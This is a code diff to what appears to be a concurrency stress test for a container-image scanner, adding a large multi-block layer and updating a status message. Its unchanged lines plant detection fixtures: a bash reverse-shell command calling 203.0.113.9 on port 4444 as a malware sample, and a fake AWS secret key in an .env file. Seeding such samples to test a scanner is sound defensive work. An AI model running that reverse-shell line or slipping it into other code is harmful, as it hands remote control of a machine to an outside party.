@@ -33,6 +33,11 @@ def layers():
                 body = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n" + body
             ents.append(u.F(f"d{n}/f{i}.txt", body, mode=0o755 if i % 131 == 0 else 0o644))
         out.append(u.Layer(ents, comp="gzip" if n % 2 else "zstd"))
+    # one layer of many blocks: read, hashed and inflated on a thread of its own while the
+    # walking thread scans it (the pipeline's ring wraps many times)
+    out.append(u.Layer([u.D("big")] + [
+        u.F(f"big/b{i}.txt", b"".join(b"%d %08x\n" % (k, (k * 2654435761 + i) & 0xFFFFFFFF)
+                                      for k in range(12000))) for i in range(24)], comp="gzip"))
     out.append(u.Layer([u.W("d0/f1.txt"), u.D("app"),
                         u.F("app/.env", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLE1\n")]))
     return out
@@ -57,7 +62,7 @@ def main():
                 if cats.count("secret") < 6 * 5 or "malware" not in cats:
                     sys.exit(f"tsan_scan: findings missing: {sorted(set(cats))}, "
                              f"{cats.count('secret')} secrets")
-    print("tsan_scan: a 4-thread scan of an 8-layer image, no report")
+    print("tsan_scan: a 4-thread scan of a 9-layer image, no report")
 
 
 if __name__ == "__main__":
